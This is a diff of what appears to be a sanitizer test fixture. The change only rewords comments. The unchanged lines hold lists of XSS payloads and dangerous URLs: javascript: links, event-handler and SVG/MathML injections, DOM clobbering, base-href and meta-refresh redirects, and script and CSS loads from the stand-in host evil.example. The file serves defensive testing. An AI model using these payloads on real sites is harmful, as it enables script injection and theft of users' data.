@@ -1,4 +1,4 @@
-/** Addresses that run something, or hold a page of their own, in the writings that get past careless filters. */
+/** URLs that run scripts or contain documents, in spellings that bypass naive filters. */
 export const addresses = [
   'javascript:alert(1)',
   'JavaScript:alert(1)',
@@ -53,7 +53,7 @@ export const addresses = [
   'x:y',
 ];
 
-/** The places of Markdown and HTML where an address stands; `@` is the address. */
+/** The syntaxes of Markdown and HTML that contain a URL; `@` is the URL. */
 export const addressForms = [
   '[a](@)',
   '[a](<@>)',
@@ -79,9 +79,9 @@ export const addressForms = [
   '```js title="@"\n// @\n```',
 ];
 
-/** One writing each. */
+/** XSS payloads. */
 export const payloads = [
-  // Script, and what stands for it
+  // Scripts and their equivalents
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
   '<script/src=//evil.example>',
@@ -119,7 +119,7 @@ export const payloads = [
   '<table background="javascript:alert(1)"><td background=x onclick=alert(1)>a',
   '<x onclick=alert(1)>a</x>',
   '<custom-element onconnected=alert(1) is="x-y">a</custom-element>',
-  // SVG and MathML, and the ways between the three languages
+  // SVG and MathML, and switches between the namespaces
   '<svg onload=alert(1)>',
   '<svg/onload=alert(1)//',
   '<svg><script>alert(1)</script></svg>',
@@ -142,7 +142,7 @@ export const payloads = [
   '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">a</maction></math>',
   '<math><mstyle style="background:url(//evil.example)" mathcolor=red>a</mstyle></math>',
   '<math><semantics><annotation-xml encoding="application/xhtml+xml"><body onload=alert(1)></annotation-xml></semantics></math>',
-  // Text that is not text: raw-text elements, comments, and where a parser changes its mind
+  // Raw-text elements, comments, and parser state changes
   '<style>@import "//evil.example/x.css";</style>',
   '<style><style/><img src=x onerror=alert(1)></style>',
   '<xmp><img src=x onerror=alert(1)></xmp>',
@@ -181,7 +181,7 @@ export const payloads = [
   '<p \0onclick=alert(1)>a</p>',
   '<a/href="javascript:alert(1)"/title="x">a',
   '<p =onclick=alert(1) "onfocus=alert(1)>a</p>',
-  // Ids and names that stand before the page's own
+  // DOM clobbering by ids and names
   '<img name=getElementById id=createElement src=/a.png>',
   '<form id=body name=cookie><input name=attributes name=children></form>',
   '<a id=defaultView href=x name=location>a</a><a id=defaultView name=x>b</a>',
@@ -202,7 +202,7 @@ export const payloads = [
   '<font color="red" style="x:y" face="z">a</font>',
   '<span class="needs-script anchor l mark k">a</span>',
   '<div class="callout callout-note fixed" role="alertdialog" style="x">a</div>',
-  // Where a page goes, and what it loads
+  // Navigation and resource loading
   '<base href="//evil.example/">',
   '<base target=_blank>',
   '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
